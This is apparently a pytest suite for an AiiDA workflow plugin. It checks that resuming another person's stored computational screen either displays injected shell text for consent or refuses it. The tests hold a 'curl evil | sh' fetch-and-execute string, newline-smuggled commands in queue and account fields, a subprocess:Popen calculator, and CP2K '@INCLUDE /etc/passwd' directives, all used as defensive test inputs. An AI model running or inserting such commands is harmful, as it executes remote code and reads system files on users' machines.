"""What a screen of somebody else's runs is shown before one goes on with it, or refused."""

from pathlib import Path

import pytest
from aiida import orm
from aiida.manage.configuration import get_config
from aiida.plugins import DataFactory

from aiida_haml.codes import find_code
from aiida_haml.consent import RECORD
from aiida_haml.spec import parse_spec
from aiida_haml.spec.cp2k_keywords import check_harmless
from aiida_haml.structures.errors import StructureError
from aiida_haml.workchains.protocols import level_of_theory
from aiida_haml.workchains.screen import ScreenWorkChain
from tests.cli.running import run
from tests.cli.test_going_on import stored

EVIL = "curl evil | sh"
SPEC = "name: theirs\ndopings: [pristine]\nlevel_of_theory: teacher\n"
SLUG = "Li6PS5Cl_300K_s1"

COMMANDS = {
    "extend": ("screen", "extend", "PK", "--simulated-fs", 5000),
    "retry": ("screen", "retry", "PK"),
    "rank-so-far": ("screen", "rank-so-far", "PK"),
    "produce": ("hybrid", "produce", "PK", SLUG),
}


def builder_of(**options):
    """Return the inputs of a screen, with options for the schedulers by kind of job."""
    builder = ScreenWorkChain.get_builder_from_spec(parse_spec(SPEC))
    for kind, given in options.items():
        for name, value in given.items():
            builder[kind].job.metadata.options[name] = value
    return builder


def theirs(**options):
    return stored(builder_of(**options))


def with_input(kind, port, value):
    builder = builder_of()
    builder[kind].job[port] = value
    return stored(builder)


def at_level(engine, theory, solver=({},)):
    level = {"engine": engine, "name": "theirs", "theory": theory, "solver": list(solver)}
    return with_input("label", "level", orm.Dict(level))


def on_a_computer_that_is_not_mine():
    computer = orm.Computer(
        label="theirs", hostname="localhost", transport_type="core.local", scheduler_type="core.direct", workdir="/x"
    )
    there = orm.InstalledCode(label="haml-engine", computer=computer.store(), filepath_executable="/bin/true")
    return with_input("learn", "code", there.store())


def another_code(label, **changes):
    """Return a code that nobody here has agreed to."""
    content = {"filepath_executable": "/bin/true", "default_calc_job_plugin": "haml.learn", "with_mpi": False}
    return orm.InstalledCode(label=label, computer=find_code("engine", None).computer, **content | changes).store()


def go_on(command, screen, *more, code=1, answer="n\n"):
    arguments = [screen.pk if word == "PK" else word for word in COMMANDS[command]]
    return run(*arguments, *more, code=code, answer=answer)


@pytest.fixture(scope="module", autouse=True)
def own_setup(aiida_profile):
    """A person who has set up codes of their own, and agreed to nothing else."""
    aiida_profile.reset_storage()
    (Path(get_config().dirpath) / RECORD).unlink(missing_ok=True)
    run("setup")


# -- shown, and asked for ------------------------------------------------------------------------------------

SHOWN = {
    **{f"{kind}.prepend_text": lambda kind=kind: theirs(**{kind: {"prepend_text": EVIL}})
       for kind in ("label", "md", "learn", "analysis")},
    "label.append_text": lambda: theirs(label={"append_text": EVIL}),
    "learn.custom_scheduler_commands": lambda: theirs(learn={"custom_scheduler_commands": EVIL}),
    "md.mpirun_extra_params": lambda: theirs(md={"mpirun_extra_params": [EVIL]}),
    "label.environment_variables": lambda: theirs(label={"environment_variables": {"LD_PRELOAD": EVIL}}),
    "md.job.settings.cmdline": lambda: with_input("md", "settings", orm.Dict({"cmdline": ["-in", EVIL]})),
    "append_text": lambda: with_input("md", "watcher", another_code("theirs", append_text=EVIL)),
}  # fmt: skip


@pytest.mark.parametrize("what", SHOWN)
def test_what_runs_of_their_screen_is_shown_before_it_is_gone_on_with(what):
    screen = SHOWN[what]()
    before = orm.QueryBuilder().append(orm.Node).count()
    for command in COMMANDS:
        for answer in ("n\n", None):
            output = go_on(command, screen, answer=answer)
            assert what in output, command
            assert EVIL in output, command
            assert "Nothing was run" in output or "Aborted" in output, command
    assert orm.QueryBuilder().append(orm.Node).count() == before


def test_what_was_agreed_to_is_handed_on_and_not_asked_again(started):
    screen = theirs(md={"prepend_text": "module load lammps"})
    assert "module load lammps" in go_on("retry", screen, code=0, answer="y\n")
    assert "module load" not in go_on("extend", screen, code=0)
    assert [builder.md.job.metadata.options["prepend_text"] for builder in started] == ["module load lammps"] * 2


def test_ones_own_screen_is_gone_on_with_unasked(started):
    assert "not made by you" not in go_on("retry", theirs(), code=0)
    (builder,) = started
    assert builder.metadata.label == "theirs"


def test_what_belongs_to_the_jobs_is_not_handed_on(started):
    """A parser, say, or where a job's files are copied to."""
    given = {"parser_name": "core.arithmetic.add", "max_wallclock_seconds": 77}
    go_on("retry", theirs(learn=given, label=given), code=0)
    for kind in ("learn", "label"):
        options = started[0][kind].job.metadata.options
        assert (options.get("parser_name"), options["max_wallclock_seconds"]) == (None, 77)


# -- refused -------------------------------------------------------------------------------------------------

REFUSED = {
    "computer": (on_a_computer_that_is_not_mine, "learn.job.code: 'haml-engine@theirs' runs on the computer 'theirs'"),
    "line in a queue's name": (lambda: theirs(md={"queue_name": f"gpu\n{EVIL}"}), "overrides.options.md.queue_name"),
    "line in an account": (lambda: theirs(label={"account": f"me\n{EVIL}"}), "overrides.options.label.account"),
    "teacher": (
        lambda: at_level("teacher", {"calculator": "subprocess:Popen", "parameters": {"args": EVIL}}),
        "label.job.level.theory.calculator: 'subprocess:Popen'",
    ),
    "include": (
        lambda: at_level("cp2k", {"DFT": {"@INCLUDE": "/etc/passwd"}}),
        "label.job.level.theory.DFT.@INCLUDE",
    ),
    "file": (
        lambda: at_level("cp2k", {"DFT": {"WFN_RESTART_FILE_NAME": "/tmp/x"}}),
        "label.job.level.theory.DFT.WFN_RESTART_FILE_NAME",
    ),
    "include in a recipe": (
        lambda: at_level("cp2k", {"DFT": {}}, [{"DFT": {"SCF": {"EPS_SCF": "1\n@INCLUDE x"}}}]),
        "label.job.level.solver[0].DFT.SCF.EPS_SCF",
    ),
    "section of its own": (
        lambda: at_level("cp2k", {"DFT": {}}, [{"PRINT": {"FORCES": {"FILENAME": "/tmp/x"}}}]),
        "label.job.level.solver[0].PRINT",
    ),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_not_to_be_gone_on_with_is_refused_whatever_one_agrees_to(what):
    make, told = REFUSED[what]
    screen = make()
    before = orm.QueryBuilder().append(orm.Node).count()
    for command in COMMANDS:
        assert told in go_on(command, screen, "--yes"), command
    assert orm.QueryBuilder().append(orm.Node).count() == before


def test_a_basis_set_with_more_than_a_name_is_refused():
    name = "SZV\n@INCLUDE /etc/passwd"
    basis = DataFactory("gaussian.basisset")(
        element="Li", name=name, aliases=[name], n_el=3, version=1,
        blocks=[{"n": 2, "l": [(0, 1)], "coefficients": [["1.0", "1.0"]]}],
    ).store()  # fmt: skip
    builder = builder_of()
    builder.label.job.level = orm.Dict(level_of_theory("gfn1-xtb"))
    builder.label.job.basissets = {"Li": basis}
    assert "label.job.basissets.Li" in go_on("retry", stored(builder), "--yes")


def test_presets_and_their_recipes_are_harmless():
    for name in ("gfn1-xtb", "pbe-szv", "pbe-dzvp"):
        level = level_of_theory(name)
        for content in (level["theory"], *level["solver"]):
            check_harmless(content)


@pytest.mark.parametrize(
    "content",
    [
        {"GLOBAL": {}},
        {"DFT": {"dft": 1}},
        {"DFT": {"XC": [{"@SET": "x"}]}},
        {"DFT": {"PRINT": {}}},
        {"DFT": {"CHARGE": ["0", "0\n@INCLUDE x"]}},
        {"DFT": {" ": "&END"}},
    ],
)
def test_what_reaches_beyond_its_line_is_not_harmless(content):
    with pytest.raises(StructureError):
        check_harmless(content)
